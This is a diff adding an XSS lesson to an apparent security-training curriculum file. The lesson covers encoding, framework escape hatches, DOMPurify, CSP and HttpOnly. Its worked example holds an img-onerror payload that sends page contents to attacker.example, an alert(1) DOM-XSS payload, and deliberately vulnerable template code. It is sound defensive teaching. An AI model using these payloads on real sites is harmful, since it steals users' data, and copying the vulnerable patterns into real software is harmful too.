@@ -374,4 +374,133 @@ Injection is found with a mix of tools and reading. Static analysis (Semgrep, Co
       },
     ],
   },
+  {
+    key: 'cross-site-scripting',
+    title: 'Cross-Site Scripting (XSS)',
+    summary:
+      'Find reflected, stored and DOM-based XSS, encode output for its context, use framework escaping without its escape hatches, sanitize HTML with DOMPurify, and add CSP and HttpOnly as backstops.',
+    estimatedMinutes: 180,
+    reviewedOn: '2026-11',
+    contentMd: `### What XSS is and why it is serious
+Cross-site scripting (XSS) happens when an attacker gets their own JavaScript to run inside your site's pages, in other users' browsers. It is injection again, with the browser's HTML parser as the interpreter: text that should have been displayed is parsed as markup or script. Because the script runs in your page's origin, it can do everything the user can: read the page, including CSRF tokens and personal data, send requests with the user's cookies, change their email address, show a fake sign-in form, or log keystrokes. The browser's same-origin policy does not help, because from its point of view the script *is* your site. XSS (CWE-79) sits in the Injection category of the OWASP Top 10:2025 and ranks first in MITRE's 2025 CWE Top 25 of the most dangerous software weaknesses.
+
+### Reflected, stored and DOM-based XSS
+- **Reflected XSS**: the server copies part of the request into the response. A search page that prints \`You searched for <b>...</b>\` with the raw \`q\` parameter runs whatever script the attacker puts in a link; the victim only has to open the link.
+- **Stored XSS**: the payload is saved (a comment, a profile name, a support ticket, a file name) and served to everyone who views it later. It needs no link and often reaches administrators, whose sessions are worth the most.
+- **DOM-based XSS**: the bug is entirely in client-side JavaScript. Code reads a **source** the attacker controls, such as \`location.hash\`, \`location.search\` or a \`postMessage\` event, and writes it into a dangerous **sink** such as \`innerHTML\`, \`outerHTML\`, \`document.write\`, \`eval\` or a \`javascript:\` URL. The server may never see the payload (a \`#fragment\` is not even sent to it), so server-side filters and WAFs cannot catch it.
+
+### Contexts and context-aware encoding
+The fix for most XSS is **output encoding**: converting characters that have a meaning in the surrounding syntax into a form that is displayed, not executed. The catch is that the right encoding depends on *where* the data goes, its **context**, as the [OWASP XSS Prevention Cheat Sheet](https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html) details:
+
+- **HTML body** (\`<p>DATA</p>\`): encode \`&\`, \`<\`, \`>\`, \`"\` and \`'\` as entities (\`&amp;\`, \`&lt;\`, \`&gt;\`, \`&quot;\`, \`&#x27;\`).
+- **HTML attribute** (\`<input value="DATA">\`): the same encoding, and always *quote* the attribute; an unquoted attribute can be broken out of with a space.
+- **URL** (\`<a href="/search?q=DATA">\`): encode the parameter with \`encodeURIComponent\`, then HTML-encode the attribute. If the *whole URL* comes from a user, check that its scheme is \`https:\` or \`http:\`: HTML encoding leaves \`javascript:alert(1)\` untouched, and clicking it runs the script.
+- **JavaScript** (\`<script>var x = 'DATA'</script>\`): HTML encoding does not help inside a script block. Avoid putting untrusted data there at all: write it into a \`data-\` attribute or a JSON block that is read with \`JSON.parse\`, and read it back as data.
+- **CSS** and **event handler attributes** (\`onclick="..."\`): treat as dangerous; do not put untrusted data in them.
+
+In the browser, the same idea appears as **safe sinks**: \`textContent\`, \`innerText\`, \`setAttribute\` on non-event attributes, \`value\` and \`document.createTextNode\` treat their input as text, whereas \`innerHTML\` parses it as HTML.
+
+### Auto-escaping frameworks and their escape hatches
+Modern template engines and frameworks encode by default, which is why XSS is rarer in new code: React escapes everything inside \`{}\` in JSX, Vue escapes \`{{ }}\`, Angular sanitizes bindings, and Jinja2 (with autoescape on, as in Flask), Django templates and EJS's \`<%= %>\` encode HTML. Every one of them also has an **escape hatch** that inserts raw HTML, and almost every XSS in a modern app goes through one:
+
+- React: \`dangerouslySetInnerHTML={{ __html: html }}\`; also \`href={userUrl}\`, since React does not validate URL schemes such as \`javascript:\` for you.
+- Vue: \`v-html\`. Angular: \`bypassSecurityTrustHtml\` and its siblings. Svelte: \`{@html ...}\`.
+- Jinja2 and Django: the \`|safe\` filter, \`Markup()\` and \`mark_safe()\`. EJS: \`<%- %>\`. Handlebars: triple braces.
+- Plain DOM code: \`innerHTML\`, \`insertAdjacentHTML\`, \`document.write\`, jQuery's \`.html()\`.
+
+Each of these should appear rarely, be searched for in code review, and receive only trusted or sanitized HTML. Server-side template injection, where users control the template itself rather than a value in it, is a related and even more serious bug.
+
+### Sanitizing HTML with DOMPurify
+Sometimes users must be able to submit HTML: a rich-text editor, Markdown rendered to HTML, an email preview. Encoding would display the tags instead of formatting. The answer is **sanitization**: parse the HTML and keep only an allowlist of harmless elements and attributes, removing \`<script>\`, event handlers such as \`onerror\`, \`javascript:\` URLs and similar. OWASP recommends [DOMPurify](https://github.com/cure53/DOMPurify): \`DOMPurify.sanitize(dirty)\` in the browser, or with a \`jsdom\` window on a Node.js server. Python projects often use \`nh3\`, bindings to the Rust \`ammonia\` sanitizer. Three rules: never write your own sanitizer with regular expressions, do not modify the HTML after sanitizing it (that can re-create what was removed), and keep the library updated, because bypasses are found as browsers change.
+
+### Content-Security-Policy as defence in depth
+A **Content-Security-Policy (CSP)** header tells the browser which scripts it may run. A *strict* policy based on nonces, for example \`script-src 'nonce-R4nd0m' 'strict-dynamic'; object-src 'none'; base-uri 'none'\`, only runs \`<script>\` elements carrying the random nonce the server generated for this response, so an injected \`<script>\` or \`onerror=\` attribute is refused. Inline event handlers stop working, and \`'unsafe-inline'\` in \`script-src\` would switch most of the protection off. OWASP and [MDN's CSP guide](https://developer.mozilla.org/en-US/docs/Web/HTTP/Guides/CSP) both present CSP as an *additional* layer: it reduces the damage of an encoding mistake you have not found yet, but it does not replace encoding, and a policy with loopholes gives false confidence. Deploy it first with \`Content-Security-Policy-Report-Only\` to find what would break. Where the browser supports Trusted Types, the directive \`require-trusted-types-for 'script'\` goes further and makes DOM sinks such as \`innerHTML\` reject plain strings.
+
+### HttpOnly cookies and what they do not stop
+A session cookie marked \`HttpOnly\` cannot be read by \`document.cookie\`, so the classic "send me \`document.cookie\`" payload gets nothing. That is worth having, but it limits only one consequence. A script running in the page can still send requests that carry the cookie automatically, read any data the page shows, submit forms as the user and rewrite the page. HttpOnly stops the attacker from *taking the session away*; it does not stop them from *using it while the victim has the page open*. Fixing the XSS remains the only real fix.
+
+### Worked example
+A forum built with Express and EJS shows comments like this:
+
+\`\`\`html
+<!-- views/thread.ejs -->
+<% for (const c of comments) { %>
+  <div class="comment"><%- c.body %></div>   <!-- raw HTML output -->
+<% } %>
+\`\`\`
+
+A user posts this comment, and everyone who opens the thread, moderators included, runs it:
+
+\`\`\`html
+<img src="x" onerror="fetch('https://attacker.example/c', {method: 'POST', body: document.body.innerHTML})">
+\`\`\`
+
+Comments are plain text, so the first fix is one character: \`<%= c.body %>\` encodes the output, and the payload now appears on the page as harmless text. Later the product team wants bold text and links, so comments are written in Markdown and rendered to HTML. Now encoding is not possible, and the rendered HTML is sanitized on the server before it is stored or shown:
+
+\`\`\`js
+import createDOMPurify from 'dompurify';
+import { JSDOM } from 'jsdom';
+import { marked } from 'marked';
+
+const DOMPurify = createDOMPurify(new JSDOM('').window);
+
+export function renderComment(markdown) {
+  const html = marked.parse(markdown);
+  return DOMPurify.sanitize(html, {
+    ALLOWED_TAGS: ['p', 'b', 'strong', 'i', 'em', 'a', 'code', 'pre', 'ul', 'ol', 'li', 'blockquote'],
+    ALLOWED_ATTR: ['href'],
+  });
+}
+\`\`\`
+
+The same page also had a DOM XSS: a greeting filled from the URL.
+
+\`\`\`js
+// Vulnerable: /thread/7?name=<img src=x onerror=alert(1)>
+greeting.innerHTML = 'Hello ' + new URLSearchParams(location.search).get('name');
+// Fixed: textContent never parses HTML
+greeting.textContent = 'Hello ' + new URLSearchParams(location.search).get('name');
+\`\`\`
+
+Finally the team adds a nonce-based CSP in a middleware, generating a fresh nonce per response and putting it on its own \`<script nonce="...">\` tags, and marks the session cookie \`HttpOnly; Secure; SameSite=Lax\`:
+
+\`\`\`js
+import { randomBytes } from 'node:crypto';
+
+app.use((req, res, next) => {
+  res.locals.nonce = randomBytes(16).toString('base64');
+  res.setHeader('Content-Security-Policy',
+    \`script-src 'nonce-\${res.locals.nonce}' 'strict-dynamic'; object-src 'none'; base-uri 'none'\`);
+  next();
+});
+\`\`\`
+
+### Common mistakes
+- **Filtering input with a blocklist.** Removing \`<script>\` misses \`<img onerror>\`, \`<svg onload>\`, mixed case and encodings. Encode on output for the context, or sanitize with an allowlist.
+- **Encoding for the wrong context.** HTML encoding inside a \`<script>\` block or a URL scheme check that was never written leaves the hole open.
+- **Trusting the framework blindly.** \`dangerouslySetInnerHTML\`, \`v-html\` or \`|safe\` with user data bypasses it. Search for escape hatches in every review.
+- **Double duty for one field.** Data encoded for HTML and then used in JavaScript or a URL breaks or stays exploitable. Store raw data, encode at each output.
+- **CSP with \`'unsafe-inline'\`, or CSP as the only defence.** Fix the bugs; use a strict CSP as a backstop.
+- **Thinking HttpOnly prevents XSS.** It only protects the cookie's value.
+
+### At work
+Front-end and full-stack developers meet XSS in code review more than anywhere else, and application security engineers hunt for it with Burp Suite, browser developer tools and static analysis rules (Semgrep and CodeQL flag \`dangerouslySetInnerHTML\`, \`innerHTML\` and \`|safe\`). Typical junior tasks: review a pull request that adds a rich-text field and insist on DOMPurify, replace \`innerHTML\` with \`textContent\` across a legacy code base, roll out a CSP in report-only mode and work through the violation reports until it can be enforced, and reproduce a bug-bounty XSS report, fix it and add a regression test with the payload. Knowing which framework feature is the escape hatch is often the fastest way to find the bug.`,
+    resources: [
+      {
+        title: 'OWASP DOM based XSS Prevention Cheat Sheet',
+        url: 'https://cheatsheetseries.owasp.org/cheatsheets/DOM_based_XSS_Prevention_Cheat_Sheet.html',
+        kind: 'docs',
+      },
+      {
+        title: 'web.dev: Mitigate cross-site scripting with a strict Content Security Policy',
+        url: 'https://web.dev/articles/strict-csp',
+        kind: 'article',
+      },
+      {
+        title: 'PortSwigger Web Security Academy: Cross-site scripting (labs)',
+        url: 'https://portswigger.net/web-security/cross-site-scripting',
+        kind: 'interactive',
+      },
+    ],
+  },
 ];
